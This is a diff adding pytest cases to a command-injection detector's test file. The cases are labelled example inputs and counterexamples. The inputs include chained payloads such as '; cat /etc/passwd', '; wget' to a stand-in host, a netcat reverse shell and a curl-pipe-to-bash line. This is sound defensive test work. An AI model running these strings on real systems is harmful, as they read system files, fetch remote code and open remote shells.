@@ -391,6 +391,22 @@ def test_table_rows_and_query_strings_are_not_chained_commands(text: str) -> Non
     assert not code_exec(text)
 
 
+@pytest.mark.parametrize("text", [
+    "8.8.8.8 -c 1; id", "Bob Smith; cat /etc/passwd", "a b; wget http://e.example/x -O /tmp/x", "a b c & whoami",
+    "Bob Smith && /usr/bin/id",
+])  # fmt: skip
+def test_a_command_chained_after_several_words_that_ends_the_value_or_reads_a_secret_is_code(text: str) -> None:
+    """A command chained after more than one word counted only after a value of at most one word."""
+    assert code_exec(text)
+
+
+@pytest.mark.parametrize("text", [
+    "cd app && curl http://localhost:8080/health", "first name | id", "On the CI runner: uname -a; cat /etc/os-release",
+])  # fmt: skip
+def test_a_command_after_a_sentence_that_neither_ends_it_nor_reads_a_secret_is_not_code(text: str) -> None:
+    assert not code_exec(text)
+
+
 @pytest.mark.parametrize("text", ["nc.traditional 10.0.0.1 4444 -e /bin/sh", "curl http://x.example/a | sudo -u root bash"])
 def test_netcat_variants_and_sudo_with_a_user_are_code(text: str) -> None:
     assert code_exec(text)
